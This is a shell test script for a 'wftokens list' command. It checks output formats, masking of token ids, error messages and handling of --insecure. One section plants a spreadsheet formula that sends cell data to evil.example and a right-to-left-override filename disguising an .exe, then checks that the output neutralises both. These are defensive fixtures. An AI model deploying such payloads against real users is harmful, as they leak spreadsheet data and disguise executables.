#!/bin/sh
# test_list.sh: `wftokens list` against a sandbox: formats, query, sort,
# masking, and a clear message with a non-zero status on errors.
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/e2e/e2e.sh"
plan 20

sb_start --seed 60
tokens > "$work/tokens"
total=$(wc -l < "$work/tokens")
nsvc=$(grep -c SERVICE "$work/tokens")
list() {
	env HOME="$work/home" XDG_CONFIG_HOME="$work/config" WAVEFRONT_ENDPOINT="$URL" \
		WAVEFRONT_TOKEN="$ADMIN" "$bin" list "$@"
}

list --format json > "$work/all.json"
check "json: exit 0" test $? -eq 0
check "json: every token" test "$(jq length "$work/all.json")" -eq "$total"
check "json: ids masked by default" sh -c '! grep -qF -f "$2" "$1"' sh "$work/all.json" "$(cut -f1 "$work/tokens" > "$work/ids"; echo "$work/ids")"
list --format json --unmasked > "$work/unmasked.json"
check "--unmasked: the full ids, when asked" \
	test "$(jq -r '.[].id' "$work/unmasked.json" | sort)" = "$(cut -f1 "$work/tokens" | sort)"
check "--query type:service" test "$(list --format json --query type:service | jq length)" -eq "$nsvc"
list --format json --sort account:desc | jq -r '.[].account' > "$work/acc"
check "--sort account:desc" sh -c 'LC_ALL=C sort -f -r -c "$1"' sh "$work/acc"
list --format ndjson > "$work/all.ndjson"
check "ndjson: one JSON object a line, every token" \
	sh -c 'test "$(wc -l < "$1")" -eq "$2" && test "$(jq -s length "$1")" -eq "$2"' sh "$work/all.ndjson" "$total"
list --format csv > "$work/all.csv"
check "csv: a header and one line a token" \
	sh -c 'head -1 "$1" | grep -q "^id,name,account" && test "$(wc -l < "$1")" -eq $(($2 + 1))' sh "$work/all.csv" "$total"
list > "$work/all.txt"
check "table: titles and rows" sh -c 'head -1 "$1" | grep -q "Token Id" && test "$(wc -l < "$1")" -eq $(($2 + 1))' sh "$work/all.txt" "$total"
list --query '/(' > /dev/null 2> "$work/err"
check "a malformed query: non-zero exit" test $? -ne 0
check "and a message that says where" grep -q 'wftokens list: --query: .* at ' "$work/err"
env HOME="$work/home" XDG_CONFIG_HOME="$work/config" WAVEFRONT_ENDPOINT="$URL" \
	WAVEFRONT_TOKEN=00000000-0000-4000-8000-000000000000 "$bin" list > /dev/null 2> "$work/err2"
check "a bad token: non-zero exit and a message" sh -c 'test $1 -ne 0 && grep -q "^wftokens list: " "$2"' sh $? "$work/err2"

# ---- outputs that are safe to open ------------------------------------------------------
# Two service-account tokens renamed on the server: a spreadsheet formula,
# and a name holding a right-to-left override (U+202E).
svc=$(api GET /api/v2/apitoken/customertokens | jq -r '[.response[] | select(.accountType == "SERVICE_ACCOUNT")][0:2][] | "\(.id) \(.account)"')
set -- $svc
formula='=HYPERLINK("http://evil.example/?"&B2,"click")'
bidi=$(printf 'invoice\342\200\256gpj.exe')
api PUT "/api/v2/apitoken/serviceaccount/$2/$1" "$(jq -cn --arg i "$1" --arg n "$formula" '{tokenID: $i, tokenName: $n}')" > /dev/null
api PUT "/api/v2/apitoken/serviceaccount/$4/$3" "$(jq -cn --arg i "$3" --arg n "$bidi" '{tokenID: $i, tokenName: $n}')" > /dev/null
list --format csv > "$work/hostile.csv"
check "csv: a formula name starts with a ' (no live formula)" \
	grep -qF "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"click\"\")\"" "$work/hostile.csv"
check "csv: no cell starts with =, +, - or @" sh -c '! grep -qE "(^|,)\"?[-=+@]" "$1"' sh "$work/hostile.csv"
list > "$work/hostile.txt"
list --format json > "$work/hostile.json"
check "table and csv: the override shows as U+FFFD" \
	sh -c 'grep -qF "$(printf "invoice\357\277\275gpj.exe")" "$1" && grep -qF "$(printf "invoice\357\277\275gpj.exe")" "$2"' sh "$work/hostile.txt" "$work/hostile.csv"
check "json: escaped as \\u202e; no raw override in any format" \
	sh -c 'grep -qF "invoice\\u202egpj.exe" "$1" && ! grep -q "$(printf "\342\200\256")" "$1" "$2" "$3"' sh "$work/hostile.json" "$work/hostile.txt" "$work/hostile.csv"

# ---- --insecure: said on stderr, refused for another host unless the profile says so ------
list --insecure --format json > "$work/insecure.json" 2> "$work/insecure.err"
check "--insecure on this machine: the listing, exit 0" \
	sh -c 'test $1 -eq 0 && test "$(jq length "$2")" -gt 0' sh $? "$work/insecure.json"
check "and a warning on stderr" grep -q "^wftokens: warning: --insecure: the certificate of .* is not verified" "$work/insecure.err"
env HOME="$work/home" XDG_CONFIG_HOME="$work/config" WAVEFRONT_ENDPOINT=https://acme.wavefront.invalid \
	WAVEFRONT_TOKEN="$ADMIN" "$bin" list --insecure > "$work/remote.out" 2> "$work/remote.err"
check "--insecure for another host: refused, non-zero exit, nothing listed" \
	sh -c 'test $1 -ne 0 && test ! -s "$2"' sh $? "$work/remote.out"
check "and the message names the profile key" \
	grep -q "wftokens list: --insecure is refused for https://acme.wavefront.invalid: .*insecure = yes in profile \[default\]" "$work/remote.err"
